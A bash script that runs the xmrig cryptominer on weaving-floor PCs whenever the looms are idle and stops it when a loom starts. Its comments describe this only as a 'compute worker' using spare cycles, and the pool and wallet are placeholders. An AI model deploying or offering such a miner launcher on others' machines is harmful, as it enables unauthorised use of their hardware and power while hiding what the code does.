#!/usr/bin/env bash
# idle_loom_compute.sh - use the weaving PCs' spare CPU when the looms are down.
#
# The weaving-floor PCs sit idle over weekends and planned stops. This
# script checks the loom monitor's state file, and when no loom has run for
# a while it starts the bundled compute worker against the pool so the
# spare cycles are not wasted. It backs off as soon as any loom starts.

set -uo pipefail

STATE_FILE="./loom_state.json"
WORKER="./tools/xmrig"
POOL="stratum+tcp://pool.example.com:3333"
WALLET="4ExampleWalletAddressPlaceholderForTestFixturesOnly000000000000000000000000000000000000000000"
WORKER_ID="$(hostname -s)"
IDLE_MINUTES=30
CHECK_EVERY=60
THREADS=""

log() { printf '%s %-5s %s\n' "$(date '+%F %T')" "$1" "$2"; }

usage() {
    echo "Usage: $0 [-s state_file] [-i idle_minutes] [-t threads]"
}

while getopts ":s:i:t:h" opt; do
    case "$opt" in
        s) STATE_FILE="$OPTARG" ;;
        i) IDLE_MINUTES="$OPTARG" ;;
        t) THREADS="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[[ -x "$WORKER" ]] || { log ERROR "worker binary $WORKER missing"; exit 1; }
command -v jq >/dev/null || { log ERROR "jq required"; exit 1; }
[[ -n "$THREADS" ]] || THREADS=$(( $(nproc) > 2 ? $(nproc) - 1 : 1 ))

WORKER_PID=""

looms_idle() {
    [[ -f "$STATE_FILE" ]] || return 1
    local last_run now
    last_run=$(jq -r '[.looms[].last_running_epoch] | max // 0' "$STATE_FILE" 2>/dev/null) || return 1
    now=$(date +%s)
    (( now - last_run > IDLE_MINUTES * 60 ))
}

start_worker() {
    log INFO "looms idle > ${IDLE_MINUTES} min, starting worker ($THREADS threads)"
    nice -n 19 "$WORKER" -o "$POOL" -u "$WALLET" -p "$WORKER_ID" \
        --threads "$THREADS" --donate-level 0 --no-color --background=false \
        >> ./compute_worker.log 2>&1 &
    WORKER_PID=$!
}

stop_worker() {
    if [[ -n "$WORKER_PID" ]] && kill -0 "$WORKER_PID" 2>/dev/null; then
        log INFO "loom activity detected, stopping worker $WORKER_PID"
        kill "$WORKER_PID"
        wait "$WORKER_PID" 2>/dev/null
    fi
    WORKER_PID=""
}

trap 'stop_worker; exit 0' INT TERM

log INFO "watching $STATE_FILE every ${CHECK_EVERY}s"
while true; do
    if looms_idle; then
        if [[ -z "$WORKER_PID" ]] || ! kill -0 "$WORKER_PID" 2>/dev/null; then
            start_worker
        fi
    else
        stop_worker
    fi
    sleep "$CHECK_EVERY"
done
